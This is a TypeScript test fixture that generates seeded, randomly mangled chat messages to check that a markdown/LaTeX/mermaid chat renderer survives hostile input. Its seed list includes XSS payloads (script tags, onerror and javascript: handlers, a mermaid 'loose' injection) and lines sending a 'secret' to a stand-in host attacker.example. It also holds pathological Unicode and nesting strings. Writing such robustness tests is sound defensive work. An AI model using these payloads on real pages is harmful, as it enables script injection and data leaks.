import { seededRandom } from '../seededRandom';

interface HostileMessage {
  readonly sender: 'User' | 'Machine';
  readonly text: string;
}

type Random = ReturnType<typeof seededRandom>;

/** What attackers and broken models write; the generator joins, repeats, nests and cuts it. */
const seeds: readonly string[] = [
  '<script>window.pageProblems.push("script ran")</script>',
  '<img src=x onerror="window.pageProblems.push(1)">',
  '<img^ src="x',
  '<svg/onload=window.pageProblems.push(2)><style>*{display:none}</style>',
  '<iframe srcdoc="<script>parent.pageProblems.push(3)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<a href="javascript:window.pageProblems.push(4)">x</a>',
  '[x](javascript:window.pageProblems.push(5))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](https://attacker.example/?q=secret)',
  '![x](javascript:alert(1))',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<form action="https://attacker.example"><input autofocus onfocus=alert(1)></form>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<base href="https://attacker.example/">',
  '<link rel=stylesheet href="https://attacker.example/x.css">',
  '<div style="position:fixed;inset:0;background:url(https://attacker.example)">',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '\u202e\u2066bidi \u2069\u202c\u200f\u061c',
  'Z̸̢̛͎̭̪͕̤̝͋͊͑͝a̸l̴g̵o̶ ' + '\u0301'.repeat(200),
  '\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud800 \udfff',
  '\0\u0007\u001b[31mred\u001b[0m\ufeff\u2028\u2029',
  '```js\nconst a = 1;\n',
  '```' + 'x'.repeat(300) + '\n</code></pre><script>1</script>',
  '~~~html\n<!--\n',
  '| a | b |\n|---|---|\n| 1 | 2 | 3 | 4 |\n|',
  '|'.repeat(500) + '\n' + '|-'.repeat(500),
  '> '.repeat(120) + 'deep',
  '- '.repeat(150) + 'deep',
  '*'.repeat(2000),
  '['.repeat(1500),
  '('.repeat(800) + '![' + ']('.repeat(400),
  '_a_'.repeat(500),
  '<'.repeat(2000),
  '`'.repeat(999),
  '&#x0;&#99999999;&lt;script&gt;&amp;amp;',
  '$\\frac{1}{\\frac{1}{\\frac{1}{x}}}$',
  '$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}{\\b\\b}\\b$$',
  '$$' + '{'.repeat(300) + 'x' + '}'.repeat(300) + '$$',
  '$\\href{javascript:alert(1)}{x}\\includegraphics{https://attacker.example/x.png}$',
  '$\\htmlClass{x}{y}\\htmlStyle{position:fixed}{z}\\rule{99999em}{99999em}$',
  '$$\\begin{matrix}' + 'a&b\\\\'.repeat(200) + '\\end{matrix}$$',
  '$$\n\\sqrt{'.repeat(40),
  '```mermaid\ngraph TD\n' + 'A-->B\n'.repeat(50) + '```\n',
  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n```\n',
  '```json\n' + '['.repeat(400) + '\n```\n',
  'https://' + 'a'.repeat(3000) + '.example/?<script>',
  'mailto:a@b.c <javascript:alert(1)> <https://x.example/"onmouseover=alert(1)>',
  '1. a\n   2. b\n      3. c\n\n\n\n---\n***\n===\n',
  '# '.repeat(50) + '\n' + '#'.repeat(50) + ' x',
  'سلام **عالم** ‏$x^2$‏ `كود` 你好，世界 שלום',
  '<think>secret plan</think> <tool_call>{"a":1}</tool_call>',
];

/** Messages to be survived, always the same for a seed. */
export function hostileMessages(seed: number, count: number): readonly HostileMessage[] {
  const random = seededRandom(seed);
  return Array.from({ length: count }, (_, index) => ({
    sender: index % 3 === 0 ? 'User' : 'Machine',
    text: hostileText(random),
  }));
}

function hostileText(random: Random): string {
  const parts = Array.from({ length: 1 + Math.floor(random() * 4) }, () => mangled(random));
  return parts.join(pick(random, ['\n\n', '\n', ' ', '', '\t', '\r\n'])).slice(0, 20_000);
}

function mangled(random: Random): string {
  const seed = pick(random, seeds);
  switch (Math.floor(random() * 7)) {
    case 0:
      return seed.slice(0, Math.floor(random() * seed.length));
    case 1:
      return seed.slice(Math.floor(random() * seed.length));
    case 2:
      return seed.repeat(1 + Math.floor(random() * 6));
    case 3:
      return `${pick(random, ['> ', '- ', '| ', '    ', '**', '$', '```\n'])}${seed}`;
    case 4: {
      const at = Math.floor(random() * seed.length);
      return seed.slice(0, at) + pick(random, seeds) + seed.slice(at);
    }
    case 5: {
      const at = Math.floor(random() * seed.length);
      return `${seed.slice(0, at)}${String.fromCharCode(Math.floor(random() * 0xffff))}${seed.slice(at + 1)}`;
    }
    default:
      return seed;
  }
}

function pick<T>(random: Random, items: readonly T[]): T {
  const item = items[Math.floor(random() * items.length)];
  if (item === undefined) throw new Error('nothing to pick');

  return item;
}
